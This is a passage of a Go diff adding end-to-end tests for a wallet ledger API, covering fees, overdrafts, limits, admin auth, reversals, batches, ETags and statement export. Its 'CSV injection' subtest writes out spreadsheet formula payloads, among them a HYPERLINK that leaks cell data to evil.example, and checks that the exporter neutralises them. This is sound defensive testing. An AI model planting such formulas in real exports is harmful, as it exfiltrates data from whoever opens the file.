+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": business.String(), "operationType": "WITHDRAW", "amount": 1000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var result model.OperationResult
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&result))
+	assert.Equal(t, int64(1000), result.Amount)
+	assert.Equal(t, int64(50), result.Fee)
+	assert.Equal(t, int64(8950), mustGetBalance(t, ts, business))
+
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", map[string]interface{}{
+		"fromWalletId": business.String(), "toWalletId": mustCreateWallet(t, ts).String(), "amount": 950,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var transfer model.Transfer
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&transfer))
+	assert.Equal(t, int64(30), transfer.Fee)
+	assert.Equal(t, int64(7970), mustGetBalance(t, ts, business))
+
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+business.String()+"/transactions?operationType=WITHDRAW", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var history model.TransactionPage
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&history))
+	require.Len(t, history.Items, 1)
+	assert.Equal(t, int64(50), history.Items[0].Fee)
+
+	resp = doRequest(t, ts, "DELETE", "/api/v1/admin/fees/rules/"+rule.ID.String(), nil)
+	assert.Equal(t, http.StatusNoContent, resp.StatusCode)
+	resp = doRequest(t, ts, "DELETE", "/api/v1/admin/fees/rules/"+rule.ID.String(), nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/fees/rules", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var rulesResp struct {
+		Items []model.FeeRule `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&rulesResp))
+	assert.Len(t, rulesResp.Items, 1)
+}
+
+func TestE2E_OverdraftLimit(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	admin := "/api/v1/admin/wallets/" + walletID.String()
+	withdraw := map[string]interface{}{
+		"walletId":      walletID.String(),
+		"operationType": "WITHDRAW",
+		"amount":        300,
+	}
+
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", withdraw)
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", admin+"/overdraft", map[string]interface{}{"limit": 1000})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/overdraft", map[string]interface{}{"limit": -1, "reason": "B2B-1"})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/overdraft", map[string]interface{}{"limit": 1000, "reason": "B2B-1"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", withdraw)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/"+walletID.String(), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var balance model.WalletBalance
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, int64(-300), balance.Balance)
+	assert.Equal(t, int64(1000), balance.OverdraftLimit)
+	assert.Equal(t, int64(700), balance.CreditAvailable)
+
+	// Сверх кредитной линии — 422, лимит ниже долга — 409
+	withdraw["amount"] = 701
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", withdraw)
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", admin+"/overdraft", map[string]interface{}{"limit": 200, "reason": "пересмотр"})
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", admin+"/overdraft-history", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var history struct {
+		Items []model.OverdraftChange `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&history))
+	require.Len(t, history.Items, 1)
+	assert.Equal(t, int64(1000), history.Items[0].NewLimit)
+	assert.Equal(t, "B2B-1", history.Items[0].Reason)
+}
+
+func TestE2E_LimitPolicies(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	other := mustCreateWallet(t, ts)
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": 10000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/limits", map[string]interface{}{"maxSingle": 100})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/admin/limits", map[string]interface{}{
+		"walletId": walletID.String(), "maxSingle": 1000, "dailyWithdrawal": 1200,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var policy model.LimitPolicy
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&policy))
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "WITHDRAW", "amount": 1000,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	// Нарушение лимита — 422 с кодом LIMIT_EXCEEDED и описанием лимита
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", map[string]interface{}{
+		"fromWalletId": walletID.String(), "toWalletId": other.String(), "amount": 300,
+	})
+	require.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+	var limitResp struct {
+		Code      string `json:"code"`
+		Limit     string `json:"limit"`
+		Max       int64  `json:"max"`
+		Used      int64  `json:"used"`
+		Requested int64  `json:"requested"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&limitResp))
+	assert.Equal(t, "LIMIT_EXCEEDED", limitResp.Code)
+	assert.Equal(t, string(model.LimitDailyWithdrawal), limitResp.Limit)
+	assert.Equal(t, int64(1200), limitResp.Max)
+	assert.Equal(t, int64(1000), limitResp.Used)
+	assert.Equal(t, int64(300), limitResp.Requested)
+
+	// Холд сверх остатка лимита не создаётся
+	resp = doRequest(t, ts, "POST", "/api/v1/holds", map[string]interface{}{"walletId": walletID.String(), "amount": 300})
+	require.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&limitResp))
+	assert.Equal(t, "LIMIT_EXCEEDED", limitResp.Code)
+	assert.Equal(t, string(model.LimitDailyWithdrawal), limitResp.Limit)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/admin/limits", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var list struct {
+		Items []model.LimitPolicy `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&list))
+	assert.Len(t, list.Items, 1)
+
+	resp = doRequest(t, ts, "DELETE", "/api/v1/admin/limits/"+policy.ID.String(), nil)
+	assert.Equal(t, http.StatusNoContent, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/transfers", map[string]interface{}{
+		"fromWalletId": walletID.String(), "toWalletId": other.String(), "amount": 300,
+	})
+	assert.Equal(t, http.StatusOK, resp.StatusCode)
+}
+
+func TestE2E_AdminAuth(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	ledgerCheck := func(authorization string) int {
+		req, err := http.NewRequest("GET", ts.URL+"/api/v1/admin/ledger/check", nil)
+		require.NoError(t, err)
+		if authorization != "" {
+			req.Header.Set("Authorization", authorization)
+		}
+		resp, err := http.DefaultClient.Do(req)
+		require.NoError(t, err)
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	assert.Equal(t, http.StatusUnauthorized, ledgerCheck(""))
+	assert.Equal(t, http.StatusUnauthorized, ledgerCheck("Bearer wrong-token"))
+	assert.Equal(t, http.StatusUnauthorized, ledgerCheck(testAdminToken))
+	assert.Equal(t, http.StatusOK, ledgerCheck("Bearer "+testAdminToken))
+
+	// Без ADMIN_TOKEN админских маршрутов нет, остальные работают
+	cfg := &config.Config{}
+	open := httptest.NewServer(newHandler(handlers.NewWalletHandler(repository.NewMemoryWalletRepository(cfg), cfg), cfg.AdminToken))
+	defer open.Close()
+	walletID := mustCreateWallet(t, open)
+	resp := doRequest(t, open, "POST", "/api/v1/admin/wallets/"+walletID.String()+"/overdraft", map[string]interface{}{
+		"limit": 100000, "reason": "договор B2B-1",
+	})
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	resp = doRequest(t, open, "GET", "/api/v1/admin/ledger/check", nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+}
+
+func TestE2E_Reversal(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	for _, op := range []map[string]interface{}{
+		{"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": 1000},
+		{"walletId": walletID.String(), "operationType": "WITHDRAW", "amount": 400},
+	} {
+		resp := doRequest(t, ts, "POST", "/api/v1/wallet", op)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+	}
+
+	type historyItem struct {
+		ID             uuid.UUID   `json:"id"`
+		OperationType  string      `json:"operationType"`
+		Amount         int64       `json:"amount"`
+		ReversesID     *uuid.UUID  `json:"reversesId"`
+		ReversedAmount int64       `json:"reversedAmount"`
+		ReversedBy     []uuid.UUID `json:"reversedBy"`
+	}
+	history := func() []historyItem {
+		resp := doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions", walletID), nil)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+		var page struct {
+			Items []historyItem `json:"items"`
+		}
+		require.NoError(t, json.NewDecoder(resp.Body).Decode(&page))
+		return page.Items
+	}
+	withdrawal := history()[0]
+	require.Equal(t, "WITHDRAW", withdrawal.OperationType)
+	reverse := "/api/v1/transactions/" + withdrawal.ID.String() + "/reverse"
+
+	resp := doRequest(t, ts, "POST", "/api/v1/transactions/"+uuid.New().String()+"/reverse", nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", reverse, map[string]interface{}{"amount": 401})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	// Частичный возврат, затем без тела — весь остаток
+	resp = doRequest(t, ts, "POST", reverse, map[string]interface{}{"amount": 100, "reason": "жалоба клиента"})
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	var reversal struct {
+		Amount         int64         `json:"amount"`
+		ReversedAmount int64         `json:"reversedAmount"`
+		Transactions   []historyItem `json:"transactions"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&reversal))
+	assert.Equal(t, int64(100), reversal.ReversedAmount)
+	require.Len(t, reversal.Transactions, 1)
+	assert.Equal(t, "REVERSAL_IN", reversal.Transactions[0].OperationType)
+
+	resp = doRequest(t, ts, "POST", reverse, nil)
+	require.Equal(t, http.StatusCreated, resp.StatusCode)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&reversal))
+	assert.Equal(t, int64(300), reversal.Amount)
+	assert.Equal(t, int64(400), reversal.ReversedAmount)
+
+	// Повторный возврат — 409
+	resp = doRequest(t, ts, "POST", reverse, nil)
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	assert.Equal(t, int64(1000), mustGetBalance(t, ts, walletID))
+
+	items := history()
+	require.Len(t, items, 4)
+	assert.Equal(t, "REVERSAL_IN", items[0].OperationType)
+	require.NotNil(t, items[0].ReversesID)
+	assert.Equal(t, withdrawal.ID, *items[0].ReversesID)
+	assert.Equal(t, int64(400), items[2].ReversedAmount)
+	assert.Equal(t, []uuid.UUID{items[1].ID, items[0].ID}, items[2].ReversedBy)
+
+	// Сторно пополнения при потраченных деньгах — 422
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "WITHDRAW", "amount": 500,
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/transactions/"+items[3].ID.String()+"/reverse", nil)
+	assert.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+}
+
+func TestE2E_Metadata(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	order := map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": 1000,
+		"externalRef": "order-1001", "description": "оплата заказа", "tags": map[string]string{"channel": "web"},
+	}
+	resp := doRequest(t, ts, "POST", "/api/v1/wallet", order)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	// Повтор того же заказа — 409, баланс не меняется
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", order)
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": 1000,
+		"description": strings.Repeat("x", model.MaxDescriptionLength+1),
+	})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": 1000, "orderId": "order-1001",
+	})
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+		"walletId": walletID.String(), "operationType": "WITHDRAW", "amount": 300, "externalRef": "payout-7",
+	})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Equal(t, int64(700), mustGetBalance(t, ts, walletID))
+
+	resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions?externalRef=order-1001", walletID), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var history struct {
+		Items []struct {
+			OperationType string            `json:"operationType"`
+			ExternalRef   string            `json:"externalRef"`
+			Description   string            `json:"description"`
+			Tags          map[string]string `json:"tags"`
+		} `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&history))
+	require.Len(t, history.Items, 1)
+	assert.Equal(t, "DEPOSIT", history.Items[0].OperationType)
+	assert.Equal(t, "оплата заказа", history.Items[0].Description)
+	assert.Equal(t, map[string]string{"channel": "web"}, history.Items[0].Tags)
+}
+
+func TestE2E_WalletOwners(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	create := map[string]interface{}{"ownerId": "user-42", "externalId": "bonus", "labels": map[string]string{"purpose": "bonus"}}
+	resp := doRequest(t, ts, "POST", "/api/v1/wallets", create)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var bonus model.Wallet
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&bonus))
+	assert.Equal(t, "user-42", bonus.OwnerID)
+	assert.Empty(t, resp.Header.Get("Idempotent-Replayed"))
+
+	// Повтор возвращает тот же кошелёк
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", create)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Equal(t, "true", resp.Header.Get("Idempotent-Replayed"))
+	var again model.Wallet
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&again))
+	assert.Equal(t, bonus.ID, again.ID)
+
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"ownerId": "user-42", "externalId": "bonus", "currency": "USD"})
+	assert.Equal(t, http.StatusConflict, resp.StatusCode)
+	resp = doRequest(t, ts, "POST", "/api/v1/wallets", map[string]interface{}{"ownerId": "user-42", "externalId": "main"})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets?ownerId=user-42", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var list struct {
+		Items []model.Wallet `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&list))
+	require.Len(t, list.Items, 2)
+	assert.Equal(t, bonus.ID, list.Items[0].ID)
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets", nil)
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	// Поиск по externalId не мешает маршрутам /api/v1/wallets/:uuid
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/by-external/bonus?ownerId=user-42", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var found model.Wallet
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&found))
+	assert.Equal(t, bonus.ID, found.ID)
+	assert.Equal(t, map[string]string{"purpose": "bonus"}, found.Labels)
+	resp = doRequest(t, ts, "GET", "/api/v1/wallets/by-external/bonus", nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	assert.Equal(t, int64(0), mustGetBalance(t, ts, bonus.ID))
+}
+
+func TestE2E_Batch(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	a := mustCreateWallet(t, ts)
+	b := mustCreateWallet(t, ts)
+	op := func(walletID uuid.UUID, operationType string, amount int64) map[string]interface{} {
+		return map[string]interface{}{"walletId": walletID.String(), "operationType": operationType, "amount": amount}
+	}
+	type batchResult struct {
+		Committed bool `json:"committed"`
+		Succeeded int  `json:"succeeded"`
+		Failed    int  `json:"failed"`
+		Items     []struct {
+			Index  int             `json:"index"`
+			Status int             `json:"status"`
+			Error  json.RawMessage `json:"error"`
+		} `json:"items"`
+	}
+	batch := func(mode string, ops ...map[string]interface{}) (*http.Response, batchResult) {
+		resp := doRequest(t, ts, "POST", "/api/v1/operations:batch", map[string]interface{}{"mode": mode, "operations": ops})
+		var result batchResult
+		if resp.StatusCode == http.StatusOK || resp.StatusCode == http.StatusUnprocessableEntity {
+			require.NoError(t, json.NewDecoder(resp.Body).Decode(&result))
+		}
+		return resp, result
+	}
+
+	resp, result := batch("atomic", op(a, "DEPOSIT", 1000), op(b, "DEPOSIT", 500), op(a, "WITHDRAW", 300))
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.True(t, result.Committed)
+	assert.Equal(t, 3, result.Succeeded)
+	assert.Equal(t, int64(700), mustGetBalance(t, ts, a))
+	assert.Equal(t, int64(500), mustGetBalance(t, ts, b))
+
+	// Атомарный пакет с недостатком средств откатывается целиком
+	resp, result = batch("atomic", op(a, "DEPOSIT", 100), op(b, "WITHDRAW", 10000))
+	require.Equal(t, http.StatusUnprocessableEntity, resp.StatusCode)
+	assert.False(t, result.Committed)
+	require.Len(t, result.Items, 2)
+	assert.Equal(t, http.StatusFailedDependency, result.Items[0].Status)
+	assert.Equal(t, http.StatusUnprocessableEntity, result.Items[1].Status)
+	assert.Contains(t, string(result.Items[1].Error), "insufficient funds")
+	assert.Equal(t, int64(700), mustGetBalance(t, ts, a))
+
+	// Независимый режим: проводится всё, что проходит
+	resp, result = batch("independent", op(a, "DEPOSIT", 100), op(b, "WITHDRAW", 10000), op(uuid.New(), "DEPOSIT", 1))
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.True(t, result.Committed)
+	assert.Equal(t, 1, result.Succeeded)
+	assert.Equal(t, 2, result.Failed)
+	assert.Equal(t, http.StatusOK, result.Items[0].Status)
+	assert.Equal(t, http.StatusUnprocessableEntity, result.Items[1].Status)
+	assert.Equal(t, http.StatusNotFound, result.Items[2].Status)
+	assert.Equal(t, int64(800), mustGetBalance(t, ts, a))
+
+	// Некорректная операция или режим — 400 на весь запрос
+	resp, _ = batch("atomic", op(a, "DEPOSIT", 100), op(b, "WITHDRAW", -1))
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp, _ = batch("sometimes", op(a, "DEPOSIT", 100))
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	resp, _ = batch("atomic")
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+	assert.Equal(t, int64(800), mustGetBalance(t, ts, a))
+
+	// Маршрут пакета — только этот путь и метод, соседние пути не перехватываются
+	for _, path := range []string{"/api/v1/operations:apply", "/api/v1/operations", "/api/v1/operations:batch/x", "/api/v1/operationsbatch"} {
+		resp = doRequest(t, ts, "POST", path, map[string]interface{}{"mode": "atomic"})
+		assert.Equal(t, http.StatusNotFound, resp.StatusCode, path)
+	}
+	resp = doRequest(t, ts, "GET", "/api/v1/operations:batch", nil)
+	assert.NotEqual(t, http.StatusOK, resp.StatusCode)
+}
+
+func TestE2E_ETags(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	balancePath := "/api/v1/wallets/" + walletID.String()
+	operation := func(amount int64, ifMatch string) *http.Response {
+		return doRequestWithHeaders(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+			"walletId": walletID.String(), "operationType": "DEPOSIT", "amount": amount,
+		}, map[string]string{"If-Match": ifMatch})
+	}
+
+	resp := doRequest(t, ts, "GET", balancePath, nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	etag := resp.Header.Get("ETag")
+	require.NotEmpty(t, etag)
+	var balance struct {
+		Version int64 `json:"version"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, int64(1), balance.Version)
+
+	// Пока кошелёк не менялся, поллер получает 304 без тела
+	resp = doRequestWithHeaders(t, ts, "GET", balancePath, nil, map[string]string{"If-None-Match": etag})
+	assert.Equal(t, http.StatusNotModified, resp.StatusCode)
+	assert.Equal(t, etag, resp.Header.Get("ETag"))
+
+	resp = operation(500, etag)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	// Тот же ETag после изменения: операция — 412, GET — полный ответ
+	resp = operation(500, etag)
+	assert.Equal(t, http.StatusPreconditionFailed, resp.StatusCode)
+	resp = doRequestWithHeaders(t, ts, "GET", balancePath, nil, map[string]string{"If-None-Match": etag})
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.NotEqual(t, etag, resp.Header.Get("ETag"))
+	assert.Equal(t, int64(500), mustGetBalance(t, ts, walletID))
+}
+
+func TestE2E_BalanceAsOf(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	for _, op := range []struct {
+		operationType string
+		amount        int64
+	}{{"DEPOSIT", 1000}, {"WITHDRAW", 400}} {
+		resp := doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+			"walletId": walletID.String(), "operationType": op.operationType, "amount": op.amount,
+		})
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+	}
+
+	resp := doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/transactions", walletID), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var history struct {
+		Items []struct {
+			ID        uuid.UUID `json:"id"`
+			CreatedAt time.Time `json:"createdAt"`
+		} `json:"items"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&history))
+	require.Len(t, history.Items, 2)
+	deposit := history.Items[1]
+
+	// Баланс на момент пополнения — до списания
+	asOf := deposit.CreatedAt.Format(time.RFC3339Nano)
+	resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s?asOf=%s", walletID, url.QueryEscape(asOf)), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	var balance struct {
+		Balance           int64      `json:"balance"`
+		AsOf              time.Time  `json:"asOf"`
+		LastTransactionID *uuid.UUID `json:"lastTransactionId"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balance))
+	assert.Equal(t, int64(1000), balance.Balance)
+	assert.True(t, deposit.CreatedAt.Equal(balance.AsOf))
+	require.NotNil(t, balance.LastTransactionID)
+	assert.Equal(t, deposit.ID, *balance.LastTransactionID)
+
+	for _, asOf := range []string{"yesterday", time.Now().Add(time.Hour).Format(time.RFC3339)} {
+		resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s?asOf=%s", walletID, url.QueryEscape(asOf)), nil)
+		assert.Equal(t, http.StatusBadRequest, resp.StatusCode, asOf)
+	}
+	resp = doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s?asOf=%s", uuid.New(), url.QueryEscape(asOf)), nil)
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+}
+
+func TestE2E_Statement(t *testing.T) {
+	if testing.Short() {
+		t.Skip("skip e2e in -short mode")
+	}
+
+	ts, cleanup := setupTestServer(t)
+	defer cleanup()
+
+	walletID := mustCreateWallet(t, ts)
+	from := time.Now().Add(-time.Minute).UTC().Format(time.RFC3339)
+	for _, op := range []struct {
+		operationType string
+		amount        int64
+	}{{"DEPOSIT", 1000}, {"WITHDRAW", 400}} {
+		resp := doRequest(t, ts, "POST", "/api/v1/wallet", map[string]interface{}{
+			"walletId": walletID.String(), "operationType": op.operationType, "amount": op.amount,
+			"description": "покупка, \"кофе\"",
+		})
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+	}
+	to := time.Now().UTC().Format(time.RFC3339Nano)
+	statementPath := func(walletID uuid.UUID, format string) string {
+		return fmt.Sprintf("/api/v1/wallets/%s/statement?from=%s&to=%s&format=%s", walletID, url.QueryEscape(from), url.QueryEscape(to), format)
+	}
+
+	t.Run("CSV", func(t *testing.T) {
+		resp := doRequest(t, ts, "GET", statementPath(walletID, "csv"), nil)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+		assert.Equal(t, "text/csv; charset=utf-8", resp.Header.Get("Content-Type"))
+		assert.Contains(t, resp.Header.Get("Content-Disposition"), "attachment")
+
+		records, err := csv.NewReader(resp.Body).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, records, 5) // заголовок, OPENING, 2 операции, CLOSING
+		assert.Equal(t, "type", records[0][0])
+		assert.Equal(t, []string{"OPENING", "0"}, []string{records[1][0], records[1][7]})
+		assert.Equal(t, []string{"OPERATION", "DEPOSIT", "1000", "1000", "1000"}, []string{records[2][0], records[2][3], records[2][4], records[2][6], records[2][7]})
+		assert.Equal(t, []string{"OPERATION", "WITHDRAW", "400", "-400", "600"}, []string{records[3][0], records[3][3], records[3][4], records[3][6], records[3][7]})
+		assert.Equal(t, "покупка, \"кофе\"", records[3][10])
+		assert.Equal(t, []string{"CLOSING", "600"}, []string{records[4][0], records[4][7]})
+	})
+
+	t.Run("CSV injection", func(t *testing.T) {
+		walletID := mustCreateWallet(t, ts)
+		formula := `=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")`
+		for _, op := range []map[string]interface{}{
+			{"operationType": "DEPOSIT", "amount": 1000, "description": formula, "externalRef": "@SUM(1+1)"},
+			{"operationType": "WITHDRAW", "amount": 400, "description": "-2+3", "externalRef": "+7"},
+			{"operationType": "WITHDRAW", "amount": 100, "description": "\tcmd", "externalRef": "order=1"},
+		} {
+			op["walletId"] = walletID.String()
+			resp := doRequest(t, ts, "POST", "/api/v1/wallet", op)
+			require.Equal(t, http.StatusOK, resp.StatusCode)
+		}
+
+		to := time.Now().UTC().Format(time.RFC3339Nano)
+		resp := doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/statement?from=%s&to=%s", walletID, url.QueryEscape(from), url.QueryEscape(to)), nil)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+		records, err := csv.NewReader(resp.Body).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, records, 6)
+		assert.Equal(t, []string{"'@SUM(1+1)", "'" + formula}, records[2][9:])
+		assert.Equal(t, []string{"'+7", "'-2+3"}, records[3][9:])
+		assert.Equal(t, []string{"order=1", "'\tcmd"}, records[4][9:])
+		// Числа не трогаем: отрицательное изменение баланса остаётся числом
+		assert.Equal(t, "-400", records[3][6])
+	})
+
+	t.Run("JSON Lines", func(t *testing.T) {
+		resp := doRequest(t, ts, "GET", statementPath(walletID, "jsonl"), nil)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+		assert.Equal(t, "application/x-ndjson", resp.Header.Get("Content-Type"))
+
+		var lines []model.StatementLine
+		dec := json.NewDecoder(resp.Body)
+		for dec.More() {
+			var line model.StatementLine
+			require.NoError(t, dec.Decode(&line))
+			lines = append(lines, line)
+		}
+		require.Len(t, lines, 4)
+		assert.Equal(t, model.StatementOpening, lines[0].Type)
+		require.NotNil(t, lines[2].Transaction)
+		assert.Equal(t, model.OperationWithdraw, lines[2].Transaction.OperationType)
+		assert.Equal(t, int64(600), lines[2].Balance)
+		assert.Equal(t, model.StatementClosing, lines[3].Type)
+		assert.Equal(t, int64(600), lines[3].Balance)
+	})
+
+	t.Run("Errors", func(t *testing.T) {
+		for _, query := range []string{
+			"",
+			"from=" + url.QueryEscape(from),
+			"from=" + url.QueryEscape(to) + "&to=" + url.QueryEscape(from),
+			"from=" + url.QueryEscape(from) + "&to=" + url.QueryEscape(time.Now().Add(time.Hour).Format(time.RFC3339)),
